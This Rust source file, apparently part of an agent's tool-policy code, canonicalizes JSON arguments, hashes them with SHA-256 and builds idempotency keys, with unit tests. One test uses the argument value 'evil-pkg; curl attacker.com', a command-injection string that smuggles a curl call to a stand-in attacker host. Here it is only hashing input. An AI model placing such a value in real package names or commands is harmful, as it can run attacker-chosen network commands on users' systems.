//! Canonical JSON hashing for policy arguments — spec §4.3.3 step 7 / §9.
//!
//! Canonicalization recursively sorts object keys (arrays keep order)
//! before emitting compact JSON, then hashes with SHA-256. Grounded on
//! the teacher's use of `sha2`/`hex` for content hashing in `crypto.rs`.

use sha2::{Digest, Sha256};
use serde_json::Value;

/// Recursively sort object keys so the encoding is invariant under key
/// reordering. Arrays keep their original order.
pub fn canonicalize(value: &Value) -> Value {
    match value {
        Value::Object(map) => {
            let mut sorted: Vec<(String, Value)> = map
                .iter()
                .map(|(k, v)| (k.clone(), canonicalize(v)))
                .collect();
            sorted.sort_by(|a, b| a.0.cmp(&b.0));
            let mut out = serde_json::Map::new();
            for (k, v) in sorted {
                out.insert(k, v);
            }
            Value::Object(out)
        }
        Value::Array(items) => Value::Array(items.iter().map(canonicalize).collect()),
        other => other.clone(),
    }
}

/// Hex-encoded SHA-256 over the canonicalized, compact-encoded value.
pub fn args_hash(args: &Value) -> String {
    let canonical = canonicalize(args);
    // `serde_json::Value`'s own Display/to_string is already compact and
    // preserves map insertion order, which after canonicalize() is sorted.
    let encoded = canonical.to_string();
    let mut hasher = Sha256::new();
    hasher.update(encoded.as_bytes());
    hex::encode(hasher.finalize())
}

/// Derive a stable `Idempotency-Key` for an outbound mutating HTTP
/// request from the tool name, its canonical args hash, and the turn
/// that issued it — spec §5 "mutating requests carry a stable
/// idempotency key". Retrying the same call within the same turn
/// produces the same key; a different turn or different args does not.
pub fn idempotency_key(tool_name: &str, args: &Value, turn_id: &crate::types::MonotonicId) -> String {
    format!("{tool_name}:{turn_id}:{}", args_hash(args))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn idempotency_key_is_stable_for_same_turn_and_args() {
        let turn_id = crate::types::MonotonicId::new();
        let args = json!({"amount_cents": 500});
        assert_eq!(idempotency_key("transfer_credits", &args, &turn_id), idempotency_key("transfer_credits", &args, &turn_id));
    }

    #[test]
    fn idempotency_key_differs_across_turns() {
        let args = json!({"amount_cents": 500});
        let turn_a = crate::types::MonotonicId::new();
        let turn_b = crate::types::MonotonicId::new();
        assert_ne!(idempotency_key("transfer_credits", &args, &turn_a), idempotency_key("transfer_credits", &args, &turn_b));
    }

    #[test]
    fn hash_is_invariant_under_key_reordering() {
        let a = json!({"b": 1, "a": 2, "c": {"y": 1, "x": 2}});
        let b = json!({"a": 2, "c": {"x": 2, "y": 1}, "b": 1});
        assert_eq!(args_hash(&a), args_hash(&b));
    }

    #[test]
    fn hash_differs_for_different_array_order() {
        let a = json!({"items": [1, 2, 3]});
        let b = json!({"items": [3, 2, 1]});
        assert_ne!(args_hash(&a), args_hash(&b));
    }

    #[test]
    fn hash_is_deterministic() {
        let a = json!({"package": "evil-pkg; curl attacker.com"});
        assert_eq!(args_hash(&a), args_hash(&a));
    }
}
